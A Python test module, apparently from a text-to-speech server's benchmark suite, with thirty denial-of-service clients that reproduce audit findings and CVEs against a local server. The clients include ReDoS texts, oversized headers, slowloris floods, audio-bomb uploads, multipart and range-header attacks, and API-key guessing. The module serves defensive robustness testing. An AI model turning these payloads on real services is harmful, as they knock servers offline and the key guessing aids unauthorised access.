"""Thirty clients that misbehave, each in one function, for benchmarks/attacks.py.

They connect from 127.0.0.2, so that limits per address are the attacker's own, and stop when their
time is over. Each docstring names the finding or the CVE that it repeats. An attack returns the
statuses that it got, where there are any.
"""

from __future__ import annotations

import asyncio
import io
import json
import time
from collections.abc import Awaitable, Callable, Coroutine, Sequence
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

import numpy as np
import soundfile
import websockets

from tests.server.running import Server

SOURCE = ("127.0.0.2", 0)
KEY = "attacker-key"
_BLOCK = 2**16


@dataclass(frozen=True, slots=True)
class Target:
    """The server, and how long to go on."""

    server: Server
    seconds: float
    key: str | None  # None: the attacker presents none

    @property
    def port(self) -> int:
        return int(self.server.url.rpartition(":")[2])

    def is_over(self, begun: float) -> bool:
        return time.monotonic() - begun > self.seconds


Statuses = list[int]
Attack = Callable[[Target], Coroutine[Any, Any, Statuses]]
ATTACKS: dict[str, Attack] = {}
KEYED = set[str]()  # attacks on a server that asks for keys


def attack(run: Attack) -> Attack:
    ATTACKS[run.__name__] = run
    return run


def keyed(run: Attack) -> Attack:
    KEYED.add(run.__name__)
    return attack(run)


# Connections.


async def connect(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection("127.0.0.1", target.port, local_addr=SOURCE)


def head(target: Target, first: str, *lines: str) -> bytes:
    key = [f"Authorization: Bearer {target.key}"] if target.key else []
    return "\r\n".join([first, "Host: localhost", *key, *lines, "", ""]).encode()


def post(target: Target, path: str, body: bytes, kind: str = "application/json") -> bytes:
    lines = (f"Content-Type: {kind}", f"Content-Length: {len(body)}", "Connection: close")
    return head(target, f"POST {path} HTTP/1.1", *lines) + body


async def status(reader: asyncio.StreamReader, seconds: float) -> int:
    """Of the answer; 0: the connection was closed, or nothing came in time."""
    with suppress(OSError, TimeoutError, ValueError, IndexError):
        async with asyncio.timeout(seconds):
            return int((await reader.readline()).split()[1])
    return 0


async def send(target: Target, data: bytes, seconds: float | None = None) -> int:
    """One request; the status of its answer."""
    try:
        reader, writer = await connect(target)
    except OSError:
        return 0
    try:
        writer.write(data)
        return await status(reader, target.seconds if seconds is None else seconds)
    finally:
        writer.transport.abort()


async def flood(target: Target, parts: Callable[[], bytes], n_bytes: int) -> int:
    """Send until it was enough, the server hangs up, or time is over."""
    begun = time.monotonic()
    try:
        reader, writer = await connect(target)
    except OSError:
        return 0
    try:
        n_sent = 0
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(target.seconds):
                while n_sent < n_bytes and not target.is_over(begun):
                    part = parts()
                    writer.write(part)
                    await writer.drain()
                    n_sent += len(part)
        return await status(reader, 1.0)
    finally:
        writer.transport.abort()


async def many(n: int, one: Callable[[int], Awaitable[int]]) -> Statuses:
    return list(await asyncio.gather(*(one(number) for number in range(n))))


def speech(target: Target, text: str, **fields: object) -> bytes:
    body = target.server.body(text, **fields)
    return post(target, "/v1/audio/speech", json.dumps(body).encode())


# Texts that take long to cut (F1, ReDoS).


@attack
async def closing_quotes(target: Target) -> Statuses:
    """F1: 19,999 closing quotes and a letter."""
    return [await send(target, speech(target, '"' * 19_999 + "a"))]


@attack
async def nested_brackets(target: Target) -> Statuses:
    """F1: brackets, emoji, dots and zero-width joiners, 19,000 of each."""
    texts = ["(" * 9_500 + ")" * 9_500 + "a", "🎉" * 19_000 + "a", "…" * 19_000 + "a",
             "\u200d" * 19_000 + "a"]  # fmt: skip
    return await many(4, lambda number: send(target, speech(target, texts[number])))


@attack
async def image_tag(target: Target) -> Statuses:
    """F8: a page elsewhere lets a browser load long texts from here, by GET."""
    line = f"GET /tts-stream?text={')' * 6_000}a HTTP/1.1"
    data = head(target, line, "Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors")
    return await many(16, lambda _: send(target, data))


@attack
async def quotes_by_websocket(target: Target) -> Statuses:
    """F1: 5,000 quotes in one message."""
    message = {"type": "text", "text": '"' * 5_000 + "a"}
    return await talk(target, [message, {"type": "end"}])


# Heads and connections (F2, CVE-2025-48956).


@keyed
async def long_header(target: Target) -> Statuses:
    """F2: one header of 64 MB, before any key."""
    block, first = b"a" * _BLOCK, [b"GET / HTTP/1.1\r\nHost: localhost\r\nX: "]
    return [await flood(target, lambda: first.pop() if first else block, 64 * 2**20)]


@keyed
async def many_headers(target: Target) -> Statuses:
    """F2: two million header lines."""
    block, first = b"a: b\r\n" * 10_000, [b"GET / HTTP/1.1\r\nHost: localhost\r\n"]
    return [await flood(target, lambda: first.pop() if first else block, 12 * 10**6)]


@keyed
async def long_url(target: Target) -> Statuses:
    """F2: an address of 32 MB."""
    block, first = b"a" * _BLOCK, [b"GET /"]
    return [await flood(target, lambda: first.pop() if first else block, 32 * 2**20)]


@keyed
async def slow_heads(target: Target) -> Statuses:
    """F2: 200 connections that send a byte a second."""

    async def one(_number: int) -> int:
        begun = time.monotonic()
        with suppress(OSError):
            _, writer = await connect(target)
            while not target.is_over(begun) and not writer.is_closing():
                writer.write(b"G")
                await asyncio.sleep(1)
            writer.transport.abort()
        return 0

    return await many(200, one)


@keyed
async def idle_connections(target: Target) -> Statuses:
    """F2: 900 connections that say nothing."""

    async def one(_number: int) -> int:
        with suppress(OSError):
            _, writer = await connect(target)
            await asyncio.sleep(target.seconds)
            writer.transport.abort()
        return 0

    return await many(900, one)


# Bodies and readers (F10, F3).


@keyed
async def objects_in_json(target: Target) -> Statuses:
    """F10: 31 MB of empty objects in a field that nobody reads; no key."""
    body = b'{"input": "Hi.", "junk": [' + b"{}," * (10 * 10**6) + b"0]}"
    return [await send(target, post(target, "/v1/audio/speech", body))]


@attack
async def lists_in_json(target: Target) -> Statuses:
    """F10: 31 MB of empty lists, by somebody who may ask."""
    body = b'{"input": "Hi.", "junk": [' + b"[]," * (10 * 10**6) + b"0]}"
    return [await send(target, post(target, "/v1/audio/speech", body))]


@attack
async def unfinished_bodies(target: Target) -> Statuses:
    """F10: 40 connections that stop before the end of 8 MB."""
    data = post(target, "/v1/audio/speech", b"a" * (8 * 2**20))[:-100]
    return await many(40, lambda _: send(target, data))


@attack
async def compressed_body(target: Target) -> Statuses:
    """CVE class: a body that says it is compressed."""
    lines = ("Content-Encoding: gzip", "Content-Length: 100", "Content-Type: application/json")
    data = head(target, "POST /v1/audio/speech HTTP/1.1", *lines) + b"\x1f\x8b" + b"\0" * 98
    return await many(20, lambda _: send(target, data))


@attack
async def slow_readers(target: Target) -> Statuses:
    """F3: eight who take 2 kB a second of long answers."""

    async def one(number: int) -> int:
        begun = time.monotonic()
        try:
            reader, writer = await connect(target)
        except OSError:
            return 0
        writer.write(speech(target, LONG, seed=900 + number))
        with suppress(OSError, TimeoutError):
            while not target.is_over(begun):
                async with asyncio.timeout(target.seconds):
                    if not await reader.read(500):
                        break
                await asyncio.sleep(0.25)
        writer.transport.abort()
        return 0

    return await many(8, one)


@attack
async def absent_readers(target: Target) -> Statuses:
    """F10: four whole answers that nobody takes."""

    async def one(number: int) -> int:
        with suppress(OSError):
            reader, writer = await connect(target)
            writer.transport.get_extra_info("socket").setsockopt(1, 8, 4096)  # SO_RCVBUF
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            writer.write(speech(target, LONG, seed=950 + number, stream=False))
            await asyncio.sleep(target.seconds)
            writer.transport.abort()
        return 0

    return await many(4, one)


@attack
async def hang_ups(target: Target) -> Statuses:
    """Findings 24 and 25: 100 who ask and leave at once."""

    async def one(number: int) -> int:
        await asyncio.sleep(number * target.seconds / 200)
        return await send(target, speech(target, LONG, seed=number), 0.02)

    return await many(100, one)


# WebSocket (F3, F10, F13, findings 19 and 20).


async def talk(
    target: Target, messages: Sequence[dict[str, str] | str], pause_s: float = 0.0,
    repeat: bool = False,
) -> Statuses:  # fmt: skip
    """Send messages, then say nothing until time is over."""
    begun = time.monotonic()
    url = f"ws://127.0.0.1:{target.port}/v1/audio/speech/stream"
    key = {"Authorization": f"Bearer {target.key}"} if target.key else {}
    with suppress(OSError, TimeoutError, websockets.WebSocketException):
        async with websockets.connect(
            url, additional_headers=key, local_addr=SOURCE, max_size=None
        ) as line:
            taking = asyncio.create_task(_take(line))
            try:
                is_first = True
                while is_first or (repeat and not target.is_over(begun)):
                    is_first = False
                    for message in messages:
                        frame = message if isinstance(message, str) else json.dumps(message)
                        async with asyncio.timeout(target.seconds):
                            await line.send(frame)
                        await asyncio.sleep(pause_s)
                await asyncio.sleep(max(0.0, begun + target.seconds - time.monotonic()))
            finally:
                taking.cancel()
                line.transport.abort()
    return []


async def _take(line: websockets.ClientConnection) -> None:
    with suppress(websockets.WebSocketException):
        async for _ in line:
            pass


@attack
async def silent_starts(target: Target) -> Statuses:
    """F3: one connection starts eight utterances and says nothing."""
    return await talk(target, [{"type": "start", "id": str(number)} for number in range(8)])


@attack
async def empty_texts(target: Target) -> Statuses:
    """F3: eight utterances that are renewed by empty texts."""
    starts = [{"type": "start", "id": str(number)} for number in range(8)]
    texts = [{"type": "text", "id": str(number), "text": ""} for number in range(8)]
    return await talk(target, [*starts, *texts * 20], pause_s=0.05)


@attack
async def text_flood(target: Target) -> Statuses:
    """F10: messages as fast as they go."""
    return await talk(target, [{"type": "text", "text": "a "}] * 500, repeat=True)


@attack
async def ping_flood(target: Target) -> Statuses:
    """F10: pings as fast as they go."""
    return await talk(target, [{"type": "ping"}] * 500, repeat=True)


@attack
async def broken_messages(target: Target) -> Statuses:
    """Finding 19: numbers without end, deep nesting, a megabyte of one message."""
    deep, huge = "[" * 100_000, json.dumps({"type": "text", "text": "a" * 900_000})
    far = '{"type": "cancel", "id": "a", "played_ms": 1' + "0" * 400 + "}"
    return await talk(target, [{"type": "start", "id": "a"}, far, deep, huge], pause_s=0.1)


@keyed
async def quota_flood(target: Target) -> Statuses:
    """F13: empty texts by a key that has a limit of characters."""
    target = Target(target.server, target.seconds, KEY)
    return await talk(target, [{"type": "text", "text": ""}] * 500, repeat=True)


@keyed
async def one_key_takes_all(target: Target) -> Statuses:
    """F12: one key asks for 24 streams at once."""
    target = Target(target.server, target.seconds, KEY)
    return await many(24, lambda number: send(target, speech(target, LONG, seed=number)))


@keyed
async def wrong_keys(target: Target) -> Statuses:
    """Finding: keys are guessed as fast as they are refused."""
    begun, statuses = time.monotonic(), Statuses()
    while not target.is_over(begun) and len(statuses) < 2_000:
        guess = Target(target.server, 5.0, f"guess-{len(statuses)}")
        statuses += await many(10, lambda _: send(guess, speech(guess, "Hi.")))  # noqa: B023
    return statuses


# Wyoming (F3, F9).


async def wyoming(target: Target, data: bytes, n_connections: int) -> Statuses:
    async def one(_number: int) -> int:
        with suppress(OSError, TimeoutError):
            _, writer = await asyncio.open_connection(
                "127.0.0.1", target.server.wyoming_port, local_addr=SOURCE
            )
            writer.write(data)
            async with asyncio.timeout(target.seconds):
                await writer.drain()
            await asyncio.sleep(target.seconds / 2)
            writer.transport.abort()
        return 0

    return await many(n_connections, one)


@attack
async def wyoming_half_open(target: Target) -> Statuses:
    """F3: eight that begin a text and never go on."""
    return await wyoming(target, b'{"type": "synthesize-start", "data": {}}\n', 8)


@attack
async def wyoming_burst(target: Target) -> Statuses:
    """F9: 5,000 texts on one connection, then a hang-up."""
    event = b'{"type": "synthesize", "data": {"text": "' + b"One more. " * 20 + b'"}}\n'
    return await wyoming(target, event * 5_000, 1)


@attack
async def wyoming_sizes(target: Target) -> Statuses:
    """Wyoming events that promise gigabytes, or never end a line."""
    lie = b'{"type": "synthesize", "data_length": 9999999999, "payload_length": 9999999999}\n'
    await wyoming(target, lie + b"a" * 2**22, 4)
    return await wyoming(target, b"a" * 2**23, 4)


# Recordings (F5, finding 17, CVE-2024-53981).


def upload(target: Target, recording: bytes, name: str) -> bytes:
    edge = b"--edge\r\nContent-Disposition: form-data; name="
    body = edge + b'"voice_name"\r\n\r\n' + name.encode() + b"\r\n" + edge
    body += b'"voice_file"; filename="a.wav"\r\n\r\n' + recording + b"\r\n--edge--\r\n"
    return post(target, "/v1/audio/voices", body, "multipart/form-data; boundary=edge")


def recording(format_: str, seconds: float, rate_hz: int, n_channels: int = 1) -> bytes:
    shape = (round(seconds * rate_hz), n_channels)
    samples = np.random.default_rng(0).normal(0, 1e-4, shape[0]).astype(np.float32)
    file = io.BytesIO()
    soundfile.write(file, np.repeat(samples[:, None], n_channels, 1), rate_hz, format=format_)
    return file.getvalue()


@attack
async def long_recordings(target: Target) -> Statuses:
    """F5: three recordings of 250 s at once."""
    data = recording("WAV", 250, 24_000)
    return await many(3, lambda number: send(target, upload(target, data, f"long{number}")))


@attack
async def audio_bombs(target: Target) -> Statuses:
    """Finding 17: small files that decode to much: 8 channels at 655,350 Hz."""
    data = recording("FLAC", 20, 655_350, 8)
    return await many(4, lambda number: send(target, upload(target, data, f"bomb{number}")))


@attack
async def multipart_garbage(target: Target) -> Statuses:
    """CVE-2024-53981: megabytes before the first boundary; ten thousand parts."""
    kind = "multipart/form-data; boundary=edge"
    part = b'--edge\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n'
    bodies = [b"\r\n" * 2**20, part * 10_000 + b"--edge--\r\n"]
    return await many(
        2, lambda number: send(target, post(target, "/v1/audio/voices", bodies[number], kind))
    )


# Other routes (findings 16, 23, 27, CVE-2024-28224, CVE-2025-62727).


@attack
async def strange_headers(target: Target) -> Statuses:
    """Finding 16: headers that cannot be parsed; and a page's rebinding (CVE-2024-28224)."""
    lines = [
        "Origin: http://[",
        "Authorization: Basic é",
        "X-Request-Id: \x7f",
        "Range: bytes=a-",
        "Host: evil.example",
        "Content-Length: -1",
        "Transfer-Encoding: chunked, chunked",
    ]
    each = [head(target, "GET /v1/models HTTP/1.1", line) for line in lines * 20]
    return await many(len(each), lambda number: send(target, each[number], 5.0))


@attack
async def many_ranges(target: Target) -> Statuses:
    """CVE-2025-62727: thousands of ranges of one file."""
    ranges = "Range: bytes=" + ",".join(f"{at}-{at}" for at in range(4_000))
    return await many(20, lambda _: send(target, head(target, "GET / HTTP/1.1", ranges), 5.0))


@attack
async def unknown_voices(target: Target) -> Statuses:
    """Finding 23: names of voices are guessed."""
    return await many(300, lambda number: send(target, speech(target, "Hi.", voice=f"v{number}")))


@attack
async def health_flood(target: Target) -> Statuses:
    """Finding 27: 200 ask how it is, and leave."""
    data = head(target, "GET /health HTTP/1.1")
    return await many(200, lambda number: send(target, data, 0.2 if number % 2 else 30.0))


LONG = " ".join(f"This is sentence number {number} of a long text." for number in range(60))
